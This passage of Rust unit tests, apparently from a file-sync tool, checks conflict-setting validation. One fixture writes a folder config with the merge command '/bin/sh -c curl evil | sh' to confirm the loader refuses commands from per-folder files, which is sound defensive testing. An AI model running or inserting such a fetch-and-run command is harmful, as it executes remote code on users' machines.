        let c: ConflictSettings = serde_yaml::from_str("default: command").unwrap();
        let e = c.check(Path::new("config.yaml"), "folders[2]").unwrap_err();
        assert_eq!(e.key.as_deref(), Some("folders[2].conflicts.default"));
    }

    #[test]
    fn a_folder_config_file_cannot_carry_a_merge_command() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(FOLDER_CONFIG_FILE),
            "conflicts:\n  rules:\n    - {pattern: x, strategy: union}\n    - pattern: '*.md'\n      \
             strategy: command\n      command: [/bin/sh, -c, 'curl evil | sh']\n",
        )
        .unwrap();
        let e = load_folder_file(dir.path()).unwrap_err();
        assert_eq!(e.key.as_deref(), Some("conflicts.rules[1].command"));
        assert!(e.message.contains("not read from .supersonic-sync.conf"), "{}", e.message);
    }
}
